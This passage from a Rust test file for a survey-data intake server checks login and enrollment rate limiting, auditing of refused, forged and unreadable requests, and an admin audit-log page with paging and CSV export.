        .set_password("gs-dh", &intake::accounts::hash_password(PASSWORD).unwrap())
        .unwrap();
    for _ in 0..5 {
        assert_eq!(
            log_in_from(&proxied, "gs-dh", "wrong password here", "198.51.100.7").await,
            StatusCode::UNAUTHORIZED
        );
    }
    assert_eq!(
        log_in_from(&proxied, "gs-dh", PASSWORD, "198.51.100.7").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    assert_eq!(
        log_in_from(&proxied, "gs-dh", PASSWORD, "198.51.100.8").await,
        StatusCode::SEE_OTHER,
        "another office still logs in"
    );
    let log = proxied.centre.accounts().audit_log(50).unwrap();
    assert!(log
        .iter()
        .any(|e| e.action == "login_failed" && e.address == "198.51.100.7"));
}

/// Item 9: refusals, CSRF failures, wrong passphrases on exports, reads of household lists,
/// logouts and the CLI's actions left no audit row, and nothing showed the log. Now each is
/// audited and admins read the log on a page (filtered; CSV).
#[tokio::test(flavor = "multi_thread")]
async fn item_9_every_refusal_read_and_logout_is_audited_and_admins_can_read_the_log() {
    let server = setup().await;
    let supervisor = log_in(&server, "gs-dh", PASSWORD).await.unwrap();
    assert_eq!(
        get(
            &server,
            "/c/qt-sipas-2024/progress/district/qt",
            &supervisor
        )
        .await
        .status(),
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        get(
            &server,
            "/c/qt-sipas-2024/ministry/reconciliation",
            &supervisor
        )
        .await
        .status(),
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        post_form(
            &server,
            "/c/qt-sipas-2024/reassign",
            &supervisor,
            &[
                ("csrf", "forged"),
                ("village", "dh-p2-kp1"),
                ("to", "enum-dh-p4"),
                ("reason", "x")
            ]
        )
        .await
        .status(),
        StatusCode::FORBIDDEN
    );
    let (ministry, csrf) = ministry_with_key(&server).await;
    assert_eq!(
        get(
            &server,
            "/c/qt-sipas-2024/ministry/reconciliation",
            &ministry
        )
        .await
        .status(),
        StatusCode::OK
    );
    assert_eq!(
        post_form(
            &server,
            "/c/qt-sipas-2024/ministry/answers.csv",
            &ministry,
            &[
                ("csrf", csrf.as_str()),
                ("passphrase", "not the passphrase at all")
            ]
        )
        .await
        .status(),
        StatusCode::UNAUTHORIZED
    );
    let logout = client()
        .post(format!("{}/logout", server.base))
        .header(header::COOKIE, format!("fp_session={ministry}"))
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(logout.status(), StatusCode::SEE_OTHER);

    let log = server.centre.accounts().audit_log(200).unwrap();
    let has = |login: &str, action: &str, detail: &str| {
        log.iter()
            .any(|e| e.login == login && e.action == action && e.detail.contains(detail))
    };
    assert!(has(
        "gs-dh",
        "refused_not_found",
        "/c/qt-sipas-2024/progress/district/qt"
    ));
    assert!(has(
        "gs-dh",
        "refused_role",
        "/c/qt-sipas-2024/ministry/reconciliation"
    ));
    assert!(has("gs-dh", "refused_csrf", "/c/qt-sipas-2024/reassign"));
    assert!(has(
        "bonv",
        "page_read",
        "/c/qt-sipas-2024/ministry/reconciliation"
    ));
    assert!(has("bonv", "answers_export_refused", "Cụm mật khẩu"));
    assert!(has("bonv", "logout", ""));

    // The admin's page: filtered by who and what, in the campaign's time; CSV; admins only.
    let (admin, _) = admin_session(&server).await;
    let page = get(
        &server,
        "/admin/audit?login=gs-dh&action=refused_csrf",
        &admin,
    )
    .await
    .text()
    .await
    .unwrap();
    let rows = &page[page.find("id=\"audit\"").unwrap()..];
    assert!(
        rows.contains("/c/qt-sipas-2024/reassign")
            && rows.contains("Từ chối: biểu mẫu cũ hoặc giả")
            && !rows.contains("Xem trang"),
        "{page}"
    );
    assert!(page.contains("UTC+07:00"));
    let csv = get(&server, "/admin/audit?login=gs-dh&format=csv", &admin)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        csv.trim_start_matches('\u{feff}')
            .starts_with("lúc,tài khoản,đợt khảo sát,việc,mã việc,chi tiết,địa chỉ")
            && csv.contains("refused_not_found"),
        "{csv}"
    );
    assert_eq!(
        get(&server, "/admin/audit", &supervisor).await.status(),
        StatusCode::NOT_FOUND
    );
}

/// Issue 20, item 4: anyone logged in could push older rows out of the audit page's 500; now
/// every row is reachable, page by page, and the CSV carries the whole filtered range.
#[tokio::test(flavor = "multi_thread")]
async fn the_whole_audit_log_is_reachable_page_by_page_and_in_its_csv() {
    let server = setup().await;
    let (admin, _) = admin_session(&server).await;
    let accounts = server.centre.accounts();
    let now = chrono::Utc::now();
    for n in 0..1_100 {
        accounts
            .audit(
                "gs-dh",
                None,
                "page_read",
                &format!("GET /nowhere/{n}"),
                "127.0.0.1",
                now,
            )
            .unwrap();
    }
    let page = |n: usize| {
        let (server, admin) = (&server, &admin);
        async move {
            get(server, &format!("/admin/audit?login=gs-dh&page={n}"), admin)
                .await
                .text()
                .await
                .unwrap()
        }
    };
    let rows = |html: &str| html.matches("<tr><td class=\"l\">").count();
    let first = page(1).await;
    assert_eq!(rows(&first), 500, "a page of 500");
    assert!(first.contains("Dòng 1–500 trong 1100 dòng"), "{first}");
    assert!(first.contains("Cũ hơn") && !first.contains("Mới hơn"));
    let last = page(3).await;
    assert_eq!(rows(&last), 100, "the oldest rows are still there");
    assert!(last.contains("Mới hơn") && !last.contains("Cũ hơn"));
    // A page past the last is the last, not an empty page numbered past the end.
    let past = page(99_999_999).await;
    assert_eq!(rows(&past), 100);
    assert!(past.contains("Dòng 1001–1100 trong 1100 dòng"), "{past}");
    // A file is never written from a filter whose days cannot be read or run backwards: the
    // whole log is not what was asked for.
    for days in [
        "from=2024-02-30",
        "from=-2024-01-01",
        "from=2026-12-08&to=2026-12-01",
    ] {
        let refused = get(
            &server,
            &format!("/admin/audit?login=gs-dh&{days}&format=csv"),
            &admin,
        )
        .await;
        assert_eq!(refused.status(), reqwest::StatusCode::BAD_REQUEST, "{days}");
        assert!(refused.text().await.unwrap().contains("<html"), "{days}");
        let shown = get(&server, &format!("/admin/audit?login=gs-dh&{days}"), &admin)
            .await
            .text()
            .await
            .unwrap();
        assert!(shown.contains("id=\"problem\""), "{days}: said on the page");
    }
    let csv = get(&server, "/admin/audit?login=gs-dh&format=csv", &admin)
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        csv.trim_start_matches('\u{feff}').lines().count(),
        1 + 1_100,
        "the whole range"
    );
}

/// Issue 20 item 5: device refusals (wrong enrollment codes, unknown devices, bad batch
/// signatures) were only in the server log, and forms posted without their fields (422) were
/// not audited. Now each is audited, and a flood of one is one row that counts.
#[tokio::test(flavor = "multi_thread")]
async fn item_20_5_device_refusals_and_unreadable_forms_are_audited_a_flood_as_one_counted_row() {
    let server = setup().await;
    let key = DeviceKey::generate(&mut rand::rngs::OsRng);
    for _ in 0..5 {
        server.enroll_raw("AAAA-BBBB-CCCC", &key).await;
    }
    let unknown = uuid::Uuid::now_v7();
    let http = client();
    let chain = |n: i64| {
        let http = http.clone();
        let url = format!("{}{}", server.base, sync_protocol::api::PATH_CHAIN);
        let key = &key;
        async move {
            let mut request = http.get(url);
            let _ = n;
            let t = chrono::Utc::now().timestamp();
            for (name, value) in sync_protocol::api::sign_request(
                key,
                unknown,
                "GET",
                sync_protocol::api::PATH_CHAIN,
                t,
            ) {
                request = request.header(name, value);
            }
            request.send().await.unwrap().status().as_u16()
        }
    };
    for n in 0..200 {
        assert_eq!(chain(n).await, 401);
    }
    let session = log_in(&server, "bonv", MINISTRY_PASSWORD).await.unwrap();
    let forged = |session: String| {
        let http = http.clone();
        let url = format!("{}/c/qt-sipas-2024/ministry/review", server.base);
        async move {
            http.post(url)
                .header(header::COOKIE, format!("fp_session={session}"))
                .form(&[("household", "x")])
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    for _ in 0..50 {
        assert_eq!(
            forged(session.clone()).await,
            StatusCode::UNPROCESSABLE_ENTITY
        );
    }
    // One more of the devices' and forms' after a second; the counts held back reach their
    // rows within two seconds even with nothing more coming.
    tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
    chain(0).await;
    forged(session.clone()).await;
    tokio::time::sleep(std::time::Duration::from_millis(2_500)).await;
    let log = server.centre.accounts().audit_log(500).unwrap();
    let rows = |action: &str| -> Vec<&intake::store::AuditEntry> {
        log.iter().filter(|e| e.action == action).collect()
    };
    // Five wrong codes, one row (written within two seconds with nothing more coming).
    let enrollments = rows("enrollment_refused");
    assert_eq!(enrollments.len(), 1, "{enrollments:?}");
    assert!(
        enrollments[0].detail.ends_with("mã đăng ký sai — 5 lần"),
        "{enrollments:?}"
    );
    let devices = rows("device_refused");
    assert_eq!(devices.len(), 1, "{devices:?}");
    assert!(
        devices[0].detail.contains("máy không có ở trung tâm")
            && devices[0].detail.ends_with("— 201 lần"),
        "{devices:?}"
    );
    let forms = rows("refused_form_unreadable");
    assert_eq!(forms.len(), 1, "{forms:?}");
    assert!(
        forms[0].detail.ends_with("— 51 lần") && forms[0].login == "bonv",
        "{forms:?}"
    );
    // The admin reads them in Vietnamese on the audit page.
    let (admin, _) = admin_session(&server).await;
    let page = get(&server, "/admin/audit", &admin)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("Từ chối yêu cầu của máy") && page.contains("201 lần"),
        "{page}"
    );
}

/// Issue 20 item 7: the enrollment-code limiter was per address and in memory: 300 guesses from
/// 60 addresses were not limited, and a restart forgot. Now refused codes are counted in the
/// store per address, per code presented, and in all; a restart keeps them.
#[tokio::test(flavor = "multi_thread")]
async fn item_20_7_enrollment_guesses_from_many_addresses_are_limited_across_restarts() {
    let server = TestServer::start_configured(
        |_| {},
        |i| i.trusted_proxies = vec!["127.0.0.1".parse().unwrap()],
    )
    .await;
    let http = client();
    let guess = |code: String, from: String| {
        let http = http.clone();
        let url = format!("{}{}", server.base, sync_protocol::api::PATH_ENROLL);
        async move {
            let key = DeviceKey::generate(&mut rand::rngs::OsRng);
            let body = serde_json::json!({"code": code, "public_key": key.public(), "label": "x"});
            http.post(url)
                .header("x-forwarded-for", from)
                .json(&body)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    let mut limited = 0;
    for address in 0..60 {
        for n in 0..5 {
            let code = format!("{:04}-{:04}-ZZZZ", address, n);
            if guess(code, format!("203.0.113.{address}")).await == 429 {
                limited += 1;
            }
        }
    }
    let budget = intake::service::ENROLL_ALL_MAX_FAILURES as usize;
    assert_eq!(
        limited,
        300 - budget,
        "past the budget of all addresses together"
    );
    // One code retried from many addresses: five tries in all (checked on a fresh centre).
    let fresh = TestServer::start_configured(
        |_| {},
        |i| i.trusted_proxies = vec!["127.0.0.1".parse().unwrap()],
    )
    .await;
    let mut answers = Vec::new();
    for address in 0..8 {
        let key = DeviceKey::generate(&mut rand::rngs::OsRng);
        let body =
            serde_json::json!({"code": "AAAA-BBBB-CCCC", "public_key": key.public(), "label": "x"});
        answers.push(
            http.post(format!("{}{}", fresh.base, sync_protocol::api::PATH_ENROLL))
                .header("x-forwarded-for", format!("198.51.100.{address}"))
                .json(&body)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16(),
        );
    }
    assert_eq!(
        answers,
        [403, 403, 403, 403, 403, 429, 429, 429],
        "one code, many addresses"
    );
    // Past those budgets a valid code still enrolls: no outsider stops others from enrolling.
    let tablet = DeviceKey::generate(&mut rand::rngs::OsRng);
    assert_eq!(
        server
            .enroll_raw(&server.code("enum-dh-p2"), &tablet)
            .await
            .status(),
        201
    );
    // An address past its own budget is refused even a good code (it guesses from one place).
    for n in 0..5 {
        fresh
            .enroll_raw(&format!("{n:04}-WXYZ-WXYZ"), &tablet)
            .await;
    }
    assert_eq!(
        fresh
            .enroll_raw(&fresh.code("enum-dh-p2"), &tablet)
            .await
            .status(),
        429
    );
    // A restart keeps the count: the first centre, reopened, still refuses.
    let reopened = server.place.open();
    let key = DeviceKey::generate(&mut rand::rngs::OsRng);
    let request = sync_protocol::api::EnrollRequest {
        code: "QQQQ-QQQQ-QQQQ".into(),
        public_key: key.public(),
        label: "x".into(),
    };
    assert!(matches!(
        reopened.enroll(&request, "192.0.2.77".parse().unwrap()),
        Err(intake::error::IntakeError::RateLimited { .. })
    ));
}
